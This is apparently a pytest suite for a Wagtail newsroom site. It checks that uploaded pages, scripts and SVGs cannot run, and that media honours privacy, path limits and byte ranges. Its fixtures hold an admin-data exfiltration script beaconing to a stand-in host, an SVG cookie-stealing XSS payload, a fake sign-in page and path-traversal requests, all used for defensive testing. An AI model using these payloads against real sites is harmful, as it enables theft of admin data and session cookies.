"""Uploads never run as the site: the document types staff may upload, the headers every upload is
served with (on the embedded default, through Wagtail's document view and on S3), and byte ranges."""

import json

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from wagtail.documents import get_document_model
from wagtail.images import get_image_model

pytestmark = pytest.mark.django_db

PAGE = b"<!doctype html><title>Sign in again</title><script src='steal.js'></script>"
SCRIPT = b"fetch('/admin/users/').then(r => r.text()).then(t => navigator.sendBeacon('//x', t))"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
SOUND = bytes(range(256)) * 40  # 10,240 bytes standing in for an MP3


@pytest.fixture
def writer(newsroom):
    user = get_user_model().objects.create_user("writer", "writer@example.org", "pw")
    user.groups.add(Group.objects.get(name="Writer"))
    return user


@pytest.fixture
def writer_client(client, writer):
    client.force_login(writer)
    return client


def media_file(name, content):
    path = settings.MEDIA_ROOT / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    return path


def assert_cannot_run(response, filename):
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == f'attachment; filename="{filename}"'
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.parametrize(
    "name, content",
    [("sign-in.html", PAGE), ("steal.js", SCRIPT), ("page.htm", PAGE), ("logo.svg", SVG)],
)
def test_a_writer_cannot_upload_a_page_or_a_script_as_a_document(writer_client, name, content):
    """The admin's "Add a document" form refuses what a browser would render or run."""
    response = writer_client.post(
        "/admin/documents/add/",
        {"title": name, "file": SimpleUploadedFile(name, content), "collection": 1},
    )
    assert response.status_code == 200  # the form again, with the reason
    assert "is not allowed. Allowed extensions are: pdf, txt" in response.content.decode()
    assert not get_document_model().objects.exists()
    assert not list((settings.MEDIA_ROOT / "documents").glob(f"{name.split('.')[0]}*"))


def test_a_writer_cannot_upload_an_svg_as_an_image(writer_client):
    response = writer_client.post(
        "/admin/images/add/",
        {"title": "Logo", "file": SimpleUploadedFile("logo.svg", SVG), "collection": 1},
    )
    assert response.status_code == 200
    assert not get_image_model().objects.exists()


def test_a_writer_uploads_a_report_and_readers_download_it(writer_client, client):
    """A PDF is a document type a newsroom publishes: stored, then served as a download."""
    response = writer_client.post(
        "/admin/documents/add/",
        {
            "title": "Audit report",
            "file": SimpleUploadedFile("audit.pdf", b"%PDF-1.4 report"),
            "collection": 1,
        },
    )
    assert response.status_code == 302
    document = get_document_model().objects.get()
    assert document.url == f"/documents/{document.pk}/audit.pdf"
    client.logout()
    served = client.get(document.url)
    assert served.status_code == 200
    assert b"".join(served.streaming_content) == b"%PDF-1.4 report"
    assert_cannot_run(served, "audit.pdf")


def test_a_page_uploaded_before_the_allow_list_is_served_as_a_download_that_cannot_run(
    client, newsroom
):
    """Uploads from before this release: a web page, served by the document's address."""
    media_file("documents/sign-in.html", PAGE)
    document = get_document_model().objects.create(
        title="Old upload", file="documents/sign-in.html"
    )
    response = client.get(document.url)
    assert response.status_code == 200
    assert_cannot_run(response, "sign-in.html")
    # the site's own policy, which lets scripts run from /static/, is not what applies
    assert "script-src" not in response["Content-Security-Policy"]


def test_documents_are_served_only_at_their_own_address_where_privacy_applies(client, newsroom):
    """A document in a private collection stays private: its file is not reachable under /media/
    (by any spelling of the path), and its own address asks for the password first."""
    from wagtail.models import Collection, CollectionViewRestriction

    private = Collection.get_first_root_node().add_child(name="Sources")
    CollectionViewRestriction.objects.create(
        collection=private, restriction_type="password", password="only-staff"
    )
    media_file("documents/source-list.pdf", b"%PDF-1.4 names of sources")
    media_file("documents/steal.js", SCRIPT)
    document = get_document_model().objects.create(
        title="Sources", file="documents/source-list.pdf", collection=private
    )
    for address in (
        "/media/documents/source-list.pdf",
        "/media/documents/steal.js",
        "/media/./documents/source-list.pdf",
        "/media/images/../documents/source-list.pdf",
        "/media/documents//source-list.pdf",
    ):
        response = client.get(address)
        assert response.status_code == 404, address
        assert b"names of sources" not in response.content, address
    assert client.head("/media/documents/source-list.pdf").status_code == 404
    guarded = client.get(document.url)
    assert guarded.status_code == 200
    assert b"names of sources" not in b"".join(
        guarded.streaming_content if guarded.streaming else [guarded.content]
    )
    assert b"password" in guarded.content.lower()


def test_an_svg_in_media_is_a_download_too(client, newsroom):
    media_file("original_images/logo.svg", SVG)
    assert_cannot_run(client.get("/media/original_images/logo.svg"), "logo.svg")


def test_pictures_and_sound_are_shown_inline_but_sandboxed(client, newsroom):
    media_file("images/photo.jpg", b"\xff\xd8\xff jpeg")
    media_file("audio/story.mp3", SOUND)
    photo = client.get("/media/images/photo.jpg")
    assert photo["Content-Type"] == "image/jpeg"
    assert "Content-Disposition" not in photo
    assert photo["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert photo["X-Content-Type-Options"] == "nosniff"
    assert client.get("/media/audio/story.mp3")["Content-Type"] == "audio/mpeg"


def test_no_file_outside_media_is_served(client, newsroom):
    assert client.get("/media/../settings.py").status_code == 404
    assert client.get("/media/%2e%2e/%2e%2e/etc/passwd").status_code == 404
    assert client.get("/media/no-such-file.mp3").status_code == 404
    media_file("audio/x/inner.mp3", SOUND)
    assert client.get("/media/audio/x/").status_code == 404  # no directory listings
    assert client.post("/media/audio/x/inner.mp3").status_code == 405


# --- Byte ranges --------------------------------------------------------------------------------


def body(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.parametrize(
    "header, status, content_range, expected",
    [
        ("bytes=0-99", 206, "bytes 0-99/10240", SOUND[:100]),
        ("bytes=0-0", 206, "bytes 0-0/10240", SOUND[:1]),
        ("bytes=10000-", 206, "bytes 10000-10239/10240", SOUND[10000:]),
        ("bytes=-40", 206, "bytes 10200-10239/10240", SOUND[-40:]),
        ("bytes=10200-99999", 206, "bytes 10200-10239/10240", SOUND[10200:]),
        ("bytes=0-", 206, "bytes 0-10239/10240", SOUND),  # what Chromium's player asks first
        ("bytes=20000-", 416, "bytes */10240", b""),
        ("bytes=-0", 416, "bytes */10240", b""),
        ("bytes=50-10", 200, None, SOUND),  # malformed: ignored, the whole file
        ("bytes=0-1,5-9", 200, None, SOUND),  # several ranges: the whole file
        ("pages=1-2", 200, None, SOUND),
    ],
)
def test_audio_is_served_with_byte_ranges(
    client, newsroom, header, status, content_range, expected
):
    """Players and podcast apps seek and resume with Range: 206 with Content-Range, 416 past the end."""
    media_file("audio/story.mp3", SOUND)
    response = client.get("/media/audio/story.mp3", HTTP_RANGE=header)
    assert response.status_code == status
    assert response["Accept-Ranges"] == "bytes"
    assert response.get("Content-Range") == content_range
    assert body(response) == expected
    if status != 416:
        assert response["Content-Length"] == str(len(expected))
        assert response["Content-Type"] == "audio/mpeg"


def test_a_range_on_a_changed_file_gives_the_whole_new_file(client, newsroom):
    """If-Range: a player resuming a download of a file that has since changed starts again."""
    media_file("audio/story.mp3", SOUND)
    first = client.get("/media/audio/story.mp3")
    etag = first["ETag"]
    same = client.get("/media/audio/story.mp3", HTTP_RANGE="bytes=0-9", HTTP_IF_RANGE=etag)
    assert same.status_code == 206
    changed = client.get("/media/audio/story.mp3", HTTP_RANGE="bytes=0-9", HTTP_IF_RANGE='"old"')
    assert changed.status_code == 200 and body(changed) == SOUND
    assert client.get("/media/audio/story.mp3", HTTP_IF_NONE_MATCH=etag).status_code == 304


def test_head_gives_the_headers_of_get_without_a_body(client, newsroom):
    media_file("audio/story.mp3", SOUND)
    head = client.head("/media/audio/story.mp3", HTTP_RANGE="bytes=0-99")
    assert head.status_code == 206
    assert head["Content-Length"] == "100"
    assert head["Content-Range"] == "bytes 0-99/10240"
    assert body(head) == b""


# --- Production storage: S3 -----------------------------------------------------------------------


@pytest.fixture
def s3_storage():
    """The production profile's media storage, against moto's S3 server on this machine."""
    import socket

    import boto3
    from moto.server import ThreadedMotoServer

    from masthead.core.storage import MediaStorage

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=port, verbose=False)
    server.start()
    endpoint = f"http://127.0.0.1:{port}"
    credentials = {"aws_access_key_id": "test", "aws_secret_access_key": "test"}
    s3 = boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1", **credentials)
    s3.create_bucket(Bucket="newsroom-media")
    # public media, as docs/deploy.md has a newsroom set the bucket up
    public_read = {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Principal": "*",
                "Action": "s3:GetObject",
                "Resource": "arn:aws:s3:::newsroom-media/*",
            }
        ],
    }
    s3.put_bucket_policy(Bucket="newsroom-media", Policy=json.dumps(public_read))
    # the options masthead/settings/production.py gives it
    yield MediaStorage(
        bucket_name="newsroom-media",
        endpoint_url=endpoint,
        region_name="us-east-1",
        access_key="test",
        secret_key="test",
        querystring_auth=False,
        file_overwrite=False,
        object_parameters={"CacheControl": "public, max-age=31536000, immutable"},
    )
    server.stop()


def fetch(url, **headers):
    import urllib.error
    import urllib.request

    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers)) as answer:  # noqa: S310
            return answer.status, answer.headers, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()


def test_audio_on_s3_is_served_with_byte_ranges(s3_storage):
    """Production media: the file a narration or episode links to answers Range with 206."""
    from django.core.files.base import ContentFile

    name = s3_storage.save("audio/story.mp3", ContentFile(SOUND))
    status, headers, content = fetch(s3_storage.url(name), Range="bytes=100-199")
    assert status == 206
    assert headers["Content-Range"] == "bytes 100-199/10240"
    assert content == SOUND[100:200]
    assert headers["Content-Type"] == "audio/mpeg"
    assert "Content-Disposition" not in headers
    status, headers, _content = fetch(s3_storage.url(name))
    assert status == 200 and headers["Accept-Ranges"] == "bytes"
    assert fetch(s3_storage.url(name), Range="bytes=20000-")[0] == 416


def test_a_web_page_on_s3_is_stored_as_a_download(s3_storage):
    """Whatever reaches the bucket that is not a picture, a sound or a video is a download there
    too: the bucket's address never renders a writer's page."""
    from django.core.files.base import ContentFile

    for filename, content in [("documents/sign-in.html", PAGE), ("original_images/logo.svg", SVG)]:
        name = s3_storage.save(filename, ContentFile(content))
        status, headers, _content = fetch(s3_storage.url(name))
        assert status == 200, filename
        assert headers["Content-Type"] == "application/octet-stream", filename
        assert headers["Content-Disposition"] == "attachment", filename
        assert headers["Cache-Control"] == "public, max-age=31536000, immutable"
